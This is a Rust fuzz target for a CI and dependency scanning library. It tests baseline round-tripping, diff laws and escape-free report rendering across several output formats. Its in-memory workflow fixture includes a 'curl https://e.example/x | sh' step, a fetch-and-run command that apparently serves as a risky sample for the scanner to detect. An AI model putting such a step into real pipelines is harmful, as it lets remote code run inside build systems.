//! Any bytes as a baseline: what is read reads back, the laws of deltas hold, every form is written.
#![no_main]

use std::sync::LazyLock;

use libfuzzer_sys::fuzz_target;
use plimsoll::{
    Baseline, DeltaFormat, MemorySource, RenderOptions, Report, Review, ReviewFormat, Ruleset,
    Scan, Step, agenda, apply, compare, diff, read_baseline, render_delta, render_review, trend,
    write_baseline,
};

/// What is compared with.
static NOW: LazyLock<Report> = LazyLock::new(|| {
    let workflow = "jobs: {b: {steps: [{uses: o/a@v4}, {run: curl https://e.example/x | sh}]}}\n";
    let source = MemorySource::new()
        .with_file(".github/workflows/ci.yml", workflow)
        .with_file("requirements.txt", "a>=1\nb==2\n");
    Scan::source(Box::new(source)).run().unwrap()
});

fuzz_target!(|content: &[u8]| {
    let Ok(before) = read_baseline(content) else { return };
    let again = write_baseline(&before).unwrap();
    assert_eq!(read_baseline(&again).unwrap(), before);
    assert!(diff(&before, &before).is_empty());
    let now = Baseline::of(&NOW);
    for (from, to) in [(&before, &now), (&now, &before)] {
        assert_eq!(&apply(from, &diff(from, to)), to);
    }
    let delta = compare(&before, &NOW, &Ruleset::default());
    let options = RenderOptions::default();
    for format in [DeltaFormat::Table, DeltaFormat::Markdown, DeltaFormat::Json] {
        let text = render_delta(&delta, format, &options).unwrap();
        assert!(!text.contains(&0x1b));
    }
    let trend = trend(&[Step::shown("before", &before), Step::shown("now", &now)]);
    let day = "2026-06-01".parse().unwrap();
    let decisions = agenda(&NOW, Some(&delta), day);
    let review = Review::new(&NOW)
        .with_delta(&delta)
        .with_trend(&trend)
        .with_agenda(&decisions)
        .with_day(day);
    for format in [
        ReviewFormat::Markdown,
        ReviewFormat::Html,
        ReviewFormat::Sarif,
        ReviewFormat::Junit,
        ReviewFormat::Csv,
        ReviewFormat::Github,
    ] {
        let mut out = Vec::new();
        render_review(&review, format, &options, &mut out).unwrap();
        assert!(!out.contains(&0x1b));
    }
});
